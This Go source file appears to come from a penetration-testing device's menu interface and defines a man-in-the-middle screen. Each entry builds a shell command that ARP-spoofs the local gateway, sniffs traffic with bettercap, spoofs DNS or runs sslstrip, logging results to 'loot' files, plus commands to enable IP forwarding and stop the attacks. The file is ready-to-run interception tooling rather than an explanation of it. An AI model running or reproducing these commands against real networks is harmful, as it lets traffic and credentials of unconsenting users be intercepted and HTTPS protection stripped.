package mode

import (
	"fmt"
	"time"
)

// NewMitm builds the man-in-the-middle screen.
func NewMitm(env *Env) Mode {
	iface := env.Cfg.Interfaces.Primary
	return newCommandMode(env, "mitm", "⇋", []commandEntry{
		{Icon: "⇌", Label: "ARP spoof gateway", Confirm: true, Timeout: 600 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 580 arpspoof -i %s $(ip route | awk '/default/ {print $3}') 2>&1 | tee %s", iface, env.Loot.CapturePath("mitm", "arpspoof", "log"))
		}},
		{Icon: "🐍", Label: "Bettercap sniff", Confirm: true, Timeout: 600 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 580 bettercap -iface %s -no-colors -eval 'net.probe on; net.sniff on' 2>&1 | tee %s", iface, env.Loot.CapturePath("mitm", "bettercap", "log"))
		}},
		{Icon: "🕳", Label: "DNS spoof", Confirm: true, Timeout: 600 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 580 dnsspoof -i %s 2>&1 | tee %s", iface, env.Loot.CapturePath("mitm", "dnsspoof", "log"))
		}},
		{Icon: "✄", Label: "SSL strip", Confirm: true, Timeout: 600 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 580 sslstrip -l 8080 -w %s", env.Loot.CapturePath("mitm", "sslstrip", "log"))
		}},
		{Icon: "↦", Label: "Enable forwarding", Command: func() string { return "sysctl -w net.ipv4.ip_forward=1" }, Timeout: 10 * time.Second},
		{Icon: "■", Label: "Stop attacks", Command: func() string {
			return "pkill -f arpspoof; pkill -f bettercap; pkill -f dnsspoof; pkill -f sslstrip; sysctl -w net.ipv4.ip_forward=0"
		}, Timeout: 20 * time.Second},
	})
}
